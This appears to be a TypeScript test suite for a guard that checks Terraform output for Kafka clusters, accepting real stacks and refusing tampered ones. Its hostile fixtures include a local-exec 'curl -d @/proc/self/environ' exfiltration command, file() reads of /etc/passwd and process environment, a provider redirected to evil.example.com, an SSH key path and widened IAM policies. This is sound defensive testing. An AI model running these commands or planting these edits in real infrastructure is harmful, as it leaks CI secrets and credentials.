/* eslint-disable @typescript-eslint/no-unsafe-member-access, @typescript-eslint/no-explicit-any -- the hostile corpus edits parsed Terraform JSON freely */
// The guard over real outputs (every stack the example app and a wide app synthesize is accepted) and over a hostile
// corpus: each case starts from a real stack, plants one thing, and must be refused for its own reason.
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { App } from '../../constructs/cdktf';
import { KafkaEnvironment } from '../../constructs';
import { synthesize } from '../../cli/synth';
import { runGuard } from '../../cli/commands/guard';
import { guard } from '../../guard/guard';
import type { GuardCode } from '../../guard/codes';
import { GUARD_CODES } from '../../guard/codes';
import type { GuardResult, GuardStack } from '../../guard/types';
import type { EnvironmentInput } from '../../model/schema';
import { environments as repoEnvironments } from '../../environments';
import { domains as repoDomains } from '../../topics';

const root = mkdtempSync(join(tmpdir(), 'topicform-guard-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));

function synthInto(name: string, environments: readonly EnvironmentInput[]): string {
  const out = join(root, name);
  const result = synthesize((outdir) => {
    const app = new App({ outdir, stackTraces: false });
    for (const environment of environments) {
      const env = new KafkaEnvironment(app, environment.name, { environment });
      for (const d of Object.keys(repoDomains).sort()) if (env.carries(d)) repoDomains[d]?.(env);
    }
    return app;
  }, out);
  if (!result.ok) throw new Error(result.errors.join('\n'));
  return out;
}

/** Environments that together use every backend, mechanism and secrets mode topicform writes. */
const WIDE: EnvironmentInput[] = [
  {
    name: 'dev',
    production: false,
    replicationFactor: 1,
    minInsyncReplicas: 1,
    auth: { mechanism: 'none', tls: false },
    backend: { type: 'local', path: '../state/{stack}.tfstate' },
  },
  {
    name: 'qa',
    production: false,
    replicationFactor: 3,
    minInsyncReplicas: 2,
    auth: { mechanism: 'scram-sha256', secrets: 'variables' },
    backend: { type: 's3', bucket: 'b', region: 'eu-west-1', dynamodbTable: 'locks' },
  },
  {
    name: 'oauth',
    production: false,
    replicationFactor: 3,
    minInsyncReplicas: 2,
    auth: { mechanism: 'oauthbearer', secrets: 'variables' },
    backend: { type: 'gcs', bucket: 'b' },
  },
  {
    name: 'tls',
    production: false,
    replicationFactor: 3,
    minInsyncReplicas: 2,
    auth: { mechanism: 'mtls', secrets: 'variables' },
    backend: { type: 'azurerm', resourceGroupName: 'rg', storageAccountName: 'sa', containerName: 'c' },
  },
  {
    name: 'web',
    production: false,
    replicationFactor: 3,
    minInsyncReplicas: 2,
    backend: {
      type: 'http',
      address: 'https://state.example.com/{stack}',
      lockAddress: 'https://state.example.com/{stack}/lock',
      unlockAddress: 'https://state.example.com/{stack}/lock',
    },
  },
  {
    name: 'mskvars',
    production: false,
    replicationFactor: 3,
    minInsyncReplicas: 2,
    auth: { mechanism: 'aws-iam', secrets: 'variables', aws: { profile: true, assumeRole: true, iam: { defaultRole: 'msk-{name}' } } },
  },
  {
    name: 'prod',
    production: true,
    replicationFactor: 3,
    minInsyncReplicas: 2,
    layout: 'domain',
    moves: [{ domains: ['orders'], from: 'prod' }],
    backend: { type: 'remote', hostname: 'tfe.example.com', organization: 'acme', workspace: 'kafka-{stack}' },
  },
];

let example: string;
let wide: string;
beforeAll(() => {
  example = synthInto('example', repoEnvironments);
  wide = synthInto('wide', WIDE);
}, 120_000);

const stacksOf = (out: string): string[] =>
  JSON.parse(JSON.stringify(Object.keys(JSON.parse(readFileSync(join(out, 'manifest.json'), 'utf8')).stacks as object))) as string[];
const read = (out: string, stack: string, file = 'cdk.tf.json'): string => readFileSync(join(out, 'stacks', stack, file), 'utf8');

function stackInput(out: string, stack: string, change: (json: Record<string, unknown>) => void = () => {}, extra: GuardStack['entries'] = []): GuardStack {
  const json = JSON.parse(read(out, stack)) as Record<string, unknown>;
  change(json);
  return {
    stack,
    directory: `out/stacks/${stack}`,
    entries: [{ name: 'cdk.tf.json', kind: 'file' }, { name: 'topology.json', kind: 'file' }, ...extra],
    terraform: JSON.stringify(json),
    topology: read(out, stack, 'topology.json'),
  };
}

const codes = (result: GuardResult): GuardCode[] => [...new Set(result.violations.map((v) => v.code))].sort();

describe('accepts what topicform writes', () => {
  it('every stack of the example app, with and without itself as the base', () => {
    const stacks = stacksOf(example).map((s) => stackInput(example, s));
    expect(stacks.length).toBeGreaterThanOrEqual(4);
    expect(guard({ stacks }).violations).toEqual([]);
    const base = {
      label: 'base',
      stacks: stacks.map((s) => ({ stack: s.stack, terraform: JSON.parse(s.terraform ?? '') as unknown, environment: null, production: null })),
    };
    const result = guard({ stacks, base, options: { untrusted: true } });
    expect(result.violations).toEqual([]);
    expect(result.stacks.every((s) => !s.changed && !s.new)).toBe(true);
  });

  it('every stack of an app using every backend, auth mechanism, secrets mode, a move and import blocks', () => {
    const stacks = stacksOf(wide).map((s) => stackInput(wide, s));
    const all = stacks.map((s) => s.terraform ?? '').join('\n');
    for (const needle of [
      '"s3"',
      '"gcs"',
      '"azurerm"',
      '"http"',
      '"remote"',
      '"ephemeral"',
      '"removed"',
      '"import"',
      '"oauthbearer"',
      'client_key',
      'use_lockfile',
      '"aws_iam_policy"',
      '"${var.kafka_sasl_aws_profile}"',
    ]) {
      expect(all).toContain(needle);
    }
    expect(guard({ stacks }).violations).toEqual([]);
  });

  it('runs end to end on an output directory and prints JSON for a CI matrix', () => {
    let text = '';
    const code = runGuard(
      [example],
      { base: example, format: 'json', untrusted: true },
      { stdout: { write: (s: string) => ((text += s), true) } as NodeJS.WritableStream },
    );
    expect(code).toBe(0);
    const report = JSON.parse(text) as GuardResult;
    expect(report.stacks.map((s) => [s.stack, s.production, s.changed])).toEqual([
      ['confluent', true, false],
      ['dev', false, false],
      ['msk', true, false],
      ['prod-orders', true, false],
      ['prod-search', true, false],
      ['staging', false, false],
    ]);
  });
});

describe('refuses a hostile output, each for its own reason', () => {
  type Json = Record<string, any>;
  const cases: [string, GuardCode, (json: Json) => void, RegExp][] = [
    ['data "external" runs a program', 'data-source', (j) => (j.data = { external: { x: { program: ['sh', '-c', 'env'] } } }), /data sources \(external\)/],
    ['a module', 'module', (j) => (j.module = { m: { source: 'git::https://example.com/m' } }), /modules are not allowed/],
    ['an output', 'output', (j) => (j.output = { o: { value: '${var.kafka_bootstrap_servers}' } }), /outputs are not allowed/],
    ['locals', 'top-level-key-not-allowed', (j) => (j.locals = { a: 1 }), /top-level "locals"/],
    [
      'null_resource with local-exec',
      'resource-type-not-allowed',
      (j) => (j.resource.null_resource = { x: { provisioner: [{ 'local-exec': { command: 'curl -d @/proc/self/environ example.com' } }] } }),
      /resource type "null_resource"/,
    ],
    [
      'a provisioner on a topic',
      'provisioner',
      (j) => (first(j, 'kafka_topic').provisioner = [{ 'local-exec': { command: 'env' } }]),
      /runs commands on the runner/,
    ],
    ['a connection on an ACL', 'provisioner', (j) => (first(j, 'kafka_acl').connection = { host: 'x' }), /a connection is not allowed/],
    ['file() in a topic name', 'interpolation', (j) => (first(j, 'kafka_topic').name = '${file("/proc/self/environ")}'), /an expression in/],
    [
      'a template directive in a config value',
      'interpolation',
      (j) => (first(j, 'kafka_topic').config['retention.ms'] = '%{ for x in [1] }1%{ endfor }'),
      /an expression in/,
    ],
    ['count on a topic', 'meta-argument-not-allowed', (j) => (first(j, 'kafka_topic').count = 2), /"count" is not something topicform writes/],
    [
      'a lifecycle hook',
      'meta-argument-not-allowed',
      (j) => (first(j, 'kafka_topic').lifecycle = { replace_triggered_by: ['x'] }),
      /lifecycle "replace_triggered_by"/,
    ],
    ['an unknown attribute', 'attribute-not-allowed', (j) => (first(j, 'kafka_acl').timeouts = { create: '1m' }), /kafka_acl attribute "timeouts"/],
    ['a second provider', 'provider-not-allowed', (j) => (j.terraform.required_providers.http = { source: 'hashicorp/http' }), /provider "http"/],
    ['another source for kafka', 'provider-not-allowed', (j) => (j.terraform.required_providers.kafka.source = 'evil/kafka'), /"evil\/kafka"/],
    [
      'a literal bootstrap_servers',
      'provider-connection-literal',
      (j) => (j.provider.kafka[0].bootstrap_servers = ['evil.example.com:9092']),
      /bootstrap_servers must be \$\{var\.kafka_bootstrap_servers\}/,
    ],
    [
      'a literal SASL password',
      'provider-connection-literal',
      (j) => (j.provider.kafka[0].sasl_password = 'hunter2'),
      /sasl_password must be \$\{var\.kafka_sasl_password\}/,
    ],
    ['sasl_mechanism plain', 'sasl-mechanism-not-allowed', (j) => (j.provider.kafka[0].sasl_mechanism = 'plain'), /PLAIN sends the password/],
    [
      'a client key read from a file',
      'provider-attribute-not-allowed',
      (j) => (j.provider.kafka[0].client_key_file = '/home/runner/.ssh/id_rsa'),
      /"client_key_file" is not something topicform writes/,
    ],
    ['skip_tls_verify', 'provider-attribute-not-allowed', (j) => (j.provider.kafka[0].skip_tls_verify = true), /"skip_tls_verify"/],
    ['a provider alias', 'provider-attribute-not-allowed', (j) => (j.provider.kafka[0].alias = 'other'), /"alias"/],
    [
      'a variable default',
      'variable-setting-not-allowed',
      (j) => (j.variable.kafka_bootstrap_servers.default = ['evil:9092']),
      /a default .* would supply a value CI did not/,
    ],
    ['an unknown variable', 'variable-not-allowed', (j) => (j.variable.token = { type: 'string' }), /variable "token"/],
    [
      'an http backend setting',
      'backend-not-allowed',
      (j) => (j.terraform.backend = { http: { address: 'https://x', username: 'u' } }),
      /"username" is not a http backend setting/,
    ],
    ['a backend topicform never writes', 'backend-not-allowed', (j) => (j.terraform.backend = { consul: { address: 'x' } }), /backend "consul"/],
    ['terraform cloud', 'terraform-setting-not-allowed', (j) => (j.terraform.cloud = { organization: 'evil' }), /terraform\.cloud/],
    [
      'a required_version topicform does not write',
      'terraform-setting-not-allowed',
      (j) => (j.terraform.required_version = '${file("/etc/passwd")}'),
      /required_version .* is not a constraint topicform writes \(">= 1\.11"\)/,
    ],
    [
      'an import of another resource type',
      'block-not-allowed',
      (j) => (j.import = [{ to: 'null_resource.x', id: 'x' }]),
      /expected the address of a kafka_topic/,
    ],
    [
      'a literal SCRAM password',
      'credential-not-ephemeral',
      (j) => (first(j, 'kafka_user_scram_credential').password_wo = 'hunter2-literal-password'),
      /password_wo must be \$\{var\.kafka_scram_password_[a-z_]+\}, got another value \(not shown\)/,
    ],
    [
      'a SCRAM password from another variable',
      'credential-not-ephemeral',
      (j) => (first(j, 'kafka_user_scram_credential').password_wo = '${var.kafka_bootstrap_servers}'),
      /password_wo must be .*got "\$\{var\.kafka_bootstrap_servers\}"/,
    ],
    [
      'a SCRAM password variable that is not ephemeral',
      'credential-not-ephemeral',
      (j) => ((Object.values(j.variable as Json).find((v) => (v as Json).ephemeral === true) as Json).ephemeral = false),
      /must be ephemeral = true, got false/,
    ],
    [
      'a SCRAM password in the state-kept password attribute',
      'attribute-not-allowed',
      (j) => (first(j, 'kafka_user_scram_credential').password = 'x'),
      /kafka_user_scram_credential attribute "password" is not something topicform writes/,
    ],
    [
      'a removed block with a provisioner',
      'provisioner',
      (j) => (j.removed = [{ from: 'kafka_topic.x', lifecycle: { destroy: true }, provisioner: [{ 'local-exec': { command: 'env' } }] }]),
      /"provisioner" is not something topicform writes in a removed block/,
    ],
  ];

  const first = (j: Json, type: string): Json => Object.values(j.resource[type] as Json)[0] as Json;

  /** An MSK IAM policy document of the example's msk stack, edited. */
  const editPolicy = (j: Json, edit: (document: Json) => void): void => {
    const policy = first(j, 'aws_iam_policy');
    const document = JSON.parse(policy.policy as string) as Json;
    edit(document);
    policy.policy = JSON.stringify(document);
  };
  const mskCases: [string, GuardCode, (json: Json) => void, RegExp][] = [
    [
      'an MSK IAM policy granting IAM actions',
      'interpolation',
      (j) => editPolicy(j, (d) => (d.Statement[0].Action as string[]).push('iam:PassRole')),
      /policy grants actions topicform never grants/,
    ],
    [
      'an MSK IAM policy on every resource',
      'interpolation',
      (j) => editPolicy(j, (d) => (d.Statement[0].Resource = ['*'])),
      /policy names a resource that is not of the cluster: "\*"/,
    ],
    [
      'an MSK IAM policy reading a file into a resource',
      'interpolation',
      (j) => editPolicy(j, (d) => (d.Statement[1].Resource as string[]).push('${file("/etc/passwd")}')),
      /policy names a resource that is not of the cluster/,
    ],
    [
      'an attachment to a role named by the pull request',
      'interpolation',
      (j) => (first(j, 'aws_iam_role_policy_attachment').role = 'admin'),
      /role must refer to a role lookup of this stack/,
    ],
    ['a role lookup by an expression', 'data-source', (j) => (j.data.aws_iam_role.evil = { name: '${file("x")}' }), /expected \{ "name": "<role name>" \}/],
    ['another split of the cluster ARN', 'top-level-key-not-allowed', (j) => (j.locals.msk_cluster.account = '${file("x")}'), /top-level "locals" other than/],
    ['AWS keys in the aws provider', 'provider-attribute-not-allowed', (j) => (j.provider.aws[0].access_key = 'AKIA...'), /aws provider setting "access_key"/],
    [
      'another validation of the cluster ARN variable',
      'variable-setting-not-allowed',
      (j) => (j.variable.msk_cluster_arn.validation[0].condition = '${true}'),
      /"validation" is not a variable setting topicform writes/,
    ],
  ];

  it.each(mskCases)('%s → %s', (_name, code, change, message) => {
    const result = guard({ stacks: [stackInput(example, 'msk', change)] });
    expect(codes(result)).toEqual([code]);
    expect(result.violations.map((v) => v.message).join('\n')).toMatch(message);
  });

  it.each(cases)('%s → %s', (_name, code, change, message) => {
    const result = guard({ stacks: [stackInput(example, 'prod-orders', change)] });
    expect(result.ok).toBe(false);
    expect(JSON.stringify(result)).not.toContain('hunter2-literal-password'); // a literal SCRAM password is never echoed
    expect(codes(result)).toEqual([code]);
    expect(result.violations.map((v) => v.message).join('\n')).toMatch(message);
    expect(result.violations.every((v) => v.file === 'out/stacks/prod-orders/cdk.tf.json')).toBe(true);
  });

  it('covers every reason code with a case here or below', () => {
    const covered = new Set<string>([
      ...cases.map(([, code]) => code),
      'unexpected-file',
      'symlink',
      'terraform-working-files',
      'missing-file',
      'invalid-json',
      'duplicate-key',
      'local-backend',
      'backend-changed',
      'provider-changed',
      'variables-changed',
      'required-providers-changed',
      'new-environment',
    ]);
    expect(Object.keys(GUARD_CODES).filter((c) => !covered.has(c))).toEqual([]);
  });

  it.each([
    ['extra.tf.json', /terraform would load it with the stack/],
    ['evil.auto.tfvars.json', /terraform would load it with the stack/],
    ['terraform.tfvars', /terraform would load it with the stack/],
    ['main.tf', /terraform would load it with the stack/],
    ['notes.txt', /a file topicform does not write/],
  ])('an extra file %s → unexpected-file', (name, message) => {
    const result = guard({ stacks: [stackInput(example, 'dev', () => {}, [{ name, kind: 'file' }])] });
    expect(codes(result)).toEqual(['unexpected-file']);
    expect(result.violations[0]?.message).toMatch(message);
  });

  it("accepts terraform's own files locally, refuses them in an output from another job", () => {
    const entries = [
      { name: '.terraform', kind: 'directory' as const },
      { name: '.terraform.lock.hcl', kind: 'file' as const },
    ];
    expect(guard({ stacks: [stackInput(example, 'dev', () => {}, entries)] }).violations).toEqual([]);
    const untrusted = guard({ stacks: [stackInput(example, 'dev', () => {}, entries)], options: { untrusted: true } });
    expect(untrusted.violations.map((v) => [v.file, v.code])).toEqual([
      ['out/stacks/dev/.terraform', 'terraform-working-files'],
      ['out/stacks/dev/.terraform.lock.hcl', 'terraform-working-files'],
    ]);
  });

  it('refuses a duplicate key that JSON.parse would hide (a second "resource" with a null_resource)', () => {
    const text = read(example, 'dev').replace(/^\{/, '{"resource": {"null_resource": {"x": {"provisioner": [{"local-exec": {"command": "env"}}]}}},');
    const result = guard({ stacks: [{ ...stackInput(example, 'dev'), terraform: text }] });
    expect(codes(result)).toEqual(['duplicate-key']);
    expect(result.violations[0]?.message).toMatch(/key "resource" appears twice/);
  });

  it('refuses invalid JSON, comments and a missing file', () => {
    expect(codes(guard({ stacks: [{ ...stackInput(example, 'dev'), terraform: '{"resource": {} // x\n}' }] }))).toEqual(['invalid-json']);
    const withoutTerraform: GuardStack = {
      stack: 'dev',
      directory: 'out/stacks/dev',
      entries: [{ name: 'topology.json', kind: 'file' }],
      topology: read(example, 'dev', 'topology.json'),
    };
    expect(codes(guard({ stacks: [withoutTerraform] }))).toEqual(['missing-file']);
  });

  it('refuses a local backend where CI needs remote state', () => {
    const result = guard({ stacks: [stackInput(example, 'dev')], options: { remoteBackend: true } });
    expect(codes(result)).toEqual(['local-backend']);
    expect(result.violations[0]?.message).toMatch(/Set backend for the environment in environments\.ts/);
  });
});

describe('with --base: settings equal the base', () => {
  const baseOf = (out: string) => ({
    label: 'base',
    stacks: stacksOf(out).map((s) => ({
      stack: s,
      terraform: JSON.parse(read(out, s)) as unknown,
      environment: (JSON.parse(read(out, s, 'topology.json')) as { environment: { name: string } }).environment.name,
      production: null,
    })),
  });
  type Json = Record<string, any>;

  it.each([
    [
      'staging backend moved to http at an outside address',
      'staging',
      (j: Json): void => void (j.terraform.backend = { http: { address: 'https://state.evil.example.com/x' } }),
      'backend-changed',
      /backend setting http\.address differs from base: \(none\) → "https:\/\/state\.evil\.example\.com\/x"/,
    ],
    [
      'prod auth none and TLS off',
      'prod-orders',
      (j: Json): void => {
        delete j.provider.kafka[0].sasl_mechanism;
        j.provider.kafka[0].tls_enabled = false;
      },
      'provider-changed',
      /kafka\.tls_enabled differs from base: true → false/,
    ],
    [
      'a credential variable added',
      'prod-orders',
      (j: Json): void => void (j.variable.kafka_sasl_token_url = { type: 'string', nullable: false }),
      'variables-changed',
      /kafka_sasl_token_url\.type differs/,
    ],
    [
      'a provider version',
      'dev',
      (j: Json): void => void (j.terraform.required_providers.kafka.version = '0.13.2'),
      'required-providers-changed',
      /kafka\.version differs from base: "~> 0\.13\.1" → "0\.13\.2"/,
    ],
  ] as const)('%s', (_name, stack, change, code, message) => {
    const result = guard({ stacks: [stackInput(example, stack, change)], base: baseOf(example) });
    expect(codes(result)).toEqual([code]);
    expect(result.violations.map((v) => v.message).join('\n')).toMatch(message);
    // Nothing foreign: review may read the output, and the stack is not planned.
    expect(result).toMatchObject({ ok: false, reviewable: true, plan: [] });
  });

  it('plans the other stacks of a reviewable output, none of a refused one, and exits 2 and 1 for them', () => {
    type Stack = ReturnType<typeof stackInput>;
    const remote = (j: Json): void => void (j.terraform.backend = { s3: { bucket: 'b', key: 'k', region: 'r', encrypt: true, use_lockfile: true } });
    const more = (j: Json): void => void (Object.values(j.resource.kafka_topic as Json)[0].partitions = 96);
    const base = {
      label: 'base',
      stacks: ['dev', 'staging'].map((s) => ({
        stack: s,
        terraform: JSON.parse(stackInput(example, s, remote).terraform ?? '') as unknown,
        environment: null,
        production: null,
      })),
    };
    const dev = stackInput(example, 'dev', (j) => {
      remote(j);
      more(j);
    });
    const staging = (extra: (j: Json) => void): Stack =>
      stackInput(example, 'staging', (j) => {
        remote(j);
        more(j);
        extra(j);
      });

    const settings = guard({ stacks: [dev, staging((j) => void (j.provider.kafka[0].tls_enabled = false))], base });
    expect(settings).toMatchObject({ ok: false, reviewable: true, plan: ['dev'] });
    expect(settings.stacks.map((s) => [s.stack, s.ok])).toEqual([
      ['dev', true],
      ['staging', false],
    ]);

    const hostile = guard({ stacks: [dev, staging((j) => void (j.data = { external: { x: { program: ['env'] } } }))], base });
    expect(hostile).toMatchObject({ ok: false, reviewable: false, plan: [] });

    // The command's exit codes: 0 nothing refused, 2 only settings differ, 1 anything else.
    const out = join(root, 'exit-codes');
    const write = (dir: string, stacks: readonly Stack[]): string => {
      for (const s of stacks) {
        mkdirSync(join(out, dir, 'stacks', s.stack), { recursive: true });
        writeFileSync(join(out, dir, 'stacks', s.stack, 'cdk.tf.json'), s.terraform ?? '');
        writeFileSync(join(out, dir, 'stacks', s.stack, 'topology.json'), s.topology ?? '');
      }
      return join(out, dir);
    };
    const baseDir = write(
      'base',
      ['dev', 'staging'].map((s) => stackInput(example, s, remote)),
    );
    const quiet = { stdout: { write: () => true } as unknown as NodeJS.WritableStream, stderr: { write: () => true } as unknown as NodeJS.WritableStream };
    expect(runGuard([write('same', [dev, staging(() => {})])], { base: baseDir }, quiet)).toBe(0);
    expect(runGuard([write('settings', [dev, staging((j) => void (j.provider.kafka[0].tls_enabled = false))])], { base: baseDir }, quiet)).toBe(2);
    expect(runGuard([write('hostile', [dev, staging((j) => void (j.module = { m: { source: 'x' } }))])], { base: baseDir }, quiet)).toBe(1);
  });

  it('compares a new stack of a known environment with its siblings, and refuses a new environment', () => {
    const added = { ...stackInput(example, 'prod-orders'), stack: 'prod-billing', directory: 'out/stacks/prod-billing' };
    added.terraform = (added.terraform ?? '').split('prod-orders').join('prod-billing');
    const result = guard({ stacks: [added], base: baseOf(example) });
    expect(result.violations).toEqual([]);
    expect(result.stacks[0]).toMatchObject({ stack: 'prod-billing', new: true, changed: true, environment: 'prod' });

    const topology = JSON.parse(added.topology ?? '') as { environment: { name: string } };
    topology.environment.name = 'qa';
    const env = { ...added, topology: JSON.stringify(topology) };
    expect(codes(guard({ stacks: [env], base: baseOf(example) }))).toEqual(['new-environment']);
  });

  it('says which stacks changed, for the plan matrix', () => {
    const changed = stackInput(example, 'dev', (j: Json) => void (Object.values(j.resource.kafka_topic as Json)[0].partitions = 96));
    const result = guard({ stacks: [changed, stackInput(example, 'staging')], base: baseOf(example) });
    expect(result.stacks.map((s) => [s.stack, s.changed])).toEqual([
      ['dev', true],
      ['staging', false],
    ]);
    // Local backends: nothing to plan against real state.
    expect(result.plan).toEqual([]);
    const remote = (j: Json): void => void (j.terraform.backend = { s3: { bucket: 'b', key: 'k', region: 'r', encrypt: true, use_lockfile: true } });
    const remoteBase = {
      label: 'base',
      stacks: ['dev', 'staging'].map((s) => ({
        stack: s,
        terraform: JSON.parse(stackInput(example, s, remote).terraform ?? '') as unknown,
        environment: null,
        production: null,
      })),
    };
    const both = guard({
      stacks: [
        stackInput(example, 'dev', (j: Json) => {
          remote(j);
          Object.values(j.resource.kafka_topic as Json)[0].partitions = 96;
        }),
        stackInput(example, 'staging', remote),
      ],
      base: remoteBase,
    });
    expect(both.plan).toEqual(['dev']);
  });
});

describe('the command reads directories without following links', () => {
  it('refuses a symbolic link, a stray file beside the stacks and a planted file, naming each', () => {
    const out = join(root, 'hostile');
    for (const stack of ['dev', 'staging']) {
      mkdirSync(join(out, 'stacks', stack), { recursive: true });
      writeFileSync(join(out, 'stacks', stack, 'cdk.tf.json'), read(example, stack));
      writeFileSync(join(out, 'stacks', stack, 'topology.json'), read(example, stack, 'topology.json'));
    }
    rmSync(join(out, 'stacks', 'staging', 'topology.json'));
    symlinkSync('/etc/hostname', join(out, 'stacks', 'staging', 'topology.json'));
    writeFileSync(join(out, 'stacks', 'dev', 'override.tf.json'), '{}');
    writeFileSync(join(out, 'stacks', 'README'), 'x');
    let text = '';
    const code = runGuard([out], {}, { stdout: { write: (s: string) => ((text += s), true) } as NodeJS.WritableStream });
    expect(code).toBe(1);
    expect(text).toContain(`${out}/stacks/dev/override.tf.json: a file topicform does not write: terraform would load it with the stack`);
    expect(text).toContain(`${out}/stacks/staging/topology.json: a symbolic link`);
    expect(text).toContain(`${out}/stacks/README: not a stack directory`);
    expect(text).toMatch(/refused — 4 violations in 2 of 2 stacks/);
  });
});
